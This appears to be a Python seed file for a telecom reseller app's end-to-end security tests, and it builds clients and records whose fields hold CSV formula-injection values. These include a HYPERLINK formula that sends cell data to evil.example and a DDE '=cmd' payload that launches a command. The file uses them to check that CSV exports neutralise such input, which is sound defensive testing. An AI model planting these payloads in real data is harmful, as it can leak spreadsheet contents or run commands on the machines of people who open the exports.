"""Seed for the wire security tests (tests/e2e/test_wire_security.py): reseller "wire" and its clients.

- `wire-client@example.com`: a plain client with a sub-account (sessions, logout, live balance, password change).
- `wire-hard@example.com`: HARD balance management, balance = the DID setup fee, a package that allows buying.
- `=HYPERLINK(...)` as a client's first name (as the public signup form would store it), formula-like text in a
  sub-account, a call, a fax and a number: what the CSV exports must neutralise.
The reseller's REST API is on (password WIRE_API_PW), its portal shows "Forgot your password?" and takes signups.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal

from sqlmodel import select

from reseller_app.db import session_scope
from reseller_app.models import Cdr, Client, Did, FaxRecord, Package, Reseller, ResellerSettings, SubAccount
from reseller_app.services.access.actor import Actor
from reseller_app.services.access.auth import create_reseller
from reseller_app.services.access.security import hash_password
from reseller_app.services.accounting.postings import manual_posting
from reseller_app.services.api import access as api_access
from tests.e2e.seed import PASSWORD

WIRE_API_PW = "wire-api-pass-1"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
SETUP_FEE = Decimal("2.50")


def seed(ids: dict) -> None:
    """Reseller wire, its clients, evil text for the exports, the API on."""
    rid = create_reseller("reseller-wire@example.com", PASSWORD, name="Wire", company="Wire Telecom")
    now = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)
    with session_scope() as s:
        s.get(Reseller, rid).portal_active = True
        st = s.exec(select(ResellerSettings).where(ResellerSettings.reseller_id == rid)).one()
        st.title = "Wire Phone"
        st.show_forgot_password = True
        st.signup_enabled = True
        st.did_setup = SETUP_FEE
        pkg = Package(reseller_id=rid, name="Wire standard", allow_did_purchase=True)
        s.add(pkg)
        s.flush()
        plain = Client(
            reseller_id=rid,
            email="wire-client@example.com",
            password_hash=hash_password(PASSWORD),
            firstname="Wren",
            lastname="Wirecutter",
        )
        hard = Client(
            reseller_id=rid,
            email="wire-hard@example.com",
            password_hash=hash_password(PASSWORD),
            firstname="Hardy",
            balance_management="HARD",
        )
        evil = Client(
            reseller_id=rid, email="wire-evil@example.com", password_hash=hash_password(PASSWORD), firstname=EVIL
        )
        s.add_all([plain, hard, evil])
        s.flush()
        subs = [
            SubAccount(reseller_id=rid, client_id=plain.id, package_id=pkg.id, account="900001_w", sip_password="p"),
            SubAccount(reseller_id=rid, client_id=hard.id, package_id=pkg.id, account="900002_h", sip_password="p"),
            SubAccount(
                reseller_id=rid,
                client_id=evil.id,
                package_id=pkg.id,
                account="900003_e",
                description="=cmd|' /C calc'!A0",
                sip_password="p",
            ),
        ]
        s.add_all(subs)
        s.flush()
        s.add(Did(reseller_id=rid, number="15145559911", rate_center="@SUM(1+1)", client_id=evil.id))
        s.add(
            Cdr(
                reseller_id=rid,
                client_id=evil.id,
                sub_account_id=subs[2].id,
                account="900003_e",
                uniqueid="wire-evil-1",
                start=now,
                direction="out",
                callerid="+1+1",
                destination="-2+3",
                disposition="ANSWERED",
                duration=60,
                price=Decimal("0.0125"),
            )
        )
        s.add(
            FaxRecord(
                reseller_id=rid,
                client_id=evil.id,
                uniqueid="wire-fax-1",
                start=now,
                direction="in",
                remote_number="\t=1",
            )
        )
        ids.update(wire=rid, wire_client=plain.id, wire_hard=hard.id, wire_evil=evil.id)
    actor = Actor("reseller", rid)
    manual_posting(actor, ids["wire_hard"], "payment", str(SETUP_FEE), "Deposit")
    manual_posting(actor, ids["wire_client"], "payment", "20.00", "Deposit")
    api_access.set_password(actor, WIRE_API_PW, WIRE_API_PW)
    api_access.set_access(actor, True, "")
